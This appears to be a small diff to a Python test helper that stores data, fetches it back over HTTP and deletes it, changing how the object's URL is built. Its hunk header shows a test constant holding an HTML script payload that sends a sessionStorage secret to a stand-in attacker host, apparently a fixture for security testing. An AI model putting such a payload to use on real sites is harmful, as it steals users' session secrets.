@@ -17,7 +17,7 @@ SCRIPT = b"<html><script>fetch('//evil.example/'+sessionStorage.getItem('secret'
 def fetch(services, server: str, key: str, data: bytes) -> urllib3.BaseHTTPResponse:
     services.store.put(key, data)
     try:
-        return urllib3.PoolManager(retries=False).request("GET", services.store.url(key, server))
+        return urllib3.PoolManager(retries=False).request("GET", services.store.urls(server)(key))
     finally:
         services.store.delete(key)
 
